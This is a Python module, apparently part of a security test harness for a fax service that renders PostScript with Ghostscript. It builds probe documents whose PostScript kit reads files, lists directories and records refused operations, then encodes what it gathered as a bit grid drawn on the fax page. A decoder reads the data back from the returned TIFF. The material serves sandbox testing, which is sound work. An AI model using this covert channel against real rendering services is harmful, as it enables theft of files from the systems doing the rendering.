"""PostScript documents that try to break out of their render, and the reading of what they got out.

An attacker's document cannot print to a log it will ever see: what it steals comes back on its own fax. So each
probe collects what its attempts returned (file contents, directory listings, error names) into one byte string and
draws it on its first page as a grid of 8 pt cells, one bit per cell, behind a two-byte length. `read_leak` reads the
grid back from the fax TIFF the attacker downloads through the API.
"""

from __future__ import annotations

import io

from PIL import Image

CELL_PT = 8
GRID_LEFT_PT = 36
GRID_TOP_PT = 800
COLUMNS = 64  # bits per row: 8 bytes
MAX_LEAK = 480
PAGE_HEIGHT_PT = 2292 / 196 * 72  # the fax page ghostscript draws on, in points

# The kit every probe starts with. `attempt` runs a procedure and, if it fails, records the error's name, so the
# grid shows what was refused as well as what was read. `readfile` records the first bytes of a file.
_KIT = b"""%!PS
/leak 480 string def
/leaklen 0 def
/emit { { leaklen 480 lt { leak leaklen 3 -1 roll put /leaklen leaklen 1 add def } { pop } ifelse } forall } bind def
/attempt {
  mark exch stopped
  { cleartomark ([) emit $error /errorname get 40 string cvs emit (]) emit }
  { cleartomark } ifelse
} bind def
/readfile { (r) file dup 200 string readstring pop emit closefile (;) emit } bind def
/listing { { emit (|) emit } 400 string filenameforall } bind def
/drawleak {
  /bits leaklen 2 add 8 mul def
  /bit {  % index -> 0/1 of the length-prefixed leak
    dup 8 idiv dup 2 lt
    { 0 eq { leaklen -8 bitshift } { leaklen 255 and } ifelse }
    { 2 sub leak exch get } ifelse
    exch 8 mod 7 exch sub neg bitshift 1 and
  } bind def
  0 1 bits 1 sub {
    /i exch def
    i bit 1 eq {
      i 64 mod 8 mul 36 add  800 i 64 idiv 8 mul sub 8 sub  8 8 rectfill
    } if
  } for
  showpage
} bind def
"""


def probe(body: str) -> bytes:
    """A whole probe document: the kit, the attempts in `body`, then the page that carries the leak."""
    return _KIT + body.encode() + b"\ndrawleak\n"


def read_leak(tiff: bytes) -> bytes:
    """The bytes a probe drew on the first page of its fax."""
    with Image.open(io.BytesIO(tiff)) as fax:
        x_dpi, y_dpi = (float(value) for value in fax.info["dpi"])
        page = fax.convert("L")

    def bit(index: int) -> int:
        row, column = divmod(index, COLUMNS)
        x_pt = GRID_LEFT_PT + column * CELL_PT + CELL_PT / 2
        y_pt = GRID_TOP_PT - row * CELL_PT - CELL_PT / 2
        x, y = round(x_pt * x_dpi / 72), round((PAGE_HEIGHT_PT - y_pt) * y_dpi / 72)
        return 1 if page.getpixel((x, y)) < 128 else 0

    def byte(index: int) -> int:
        return sum(bit(index * 8 + offset) << (7 - offset) for offset in range(8))

    length = byte(0) << 8 | byte(1)
    assert length <= MAX_LEAK, f"no probe grid on this page (length {length})"
    return bytes(byte(2 + index) for index in range(length))
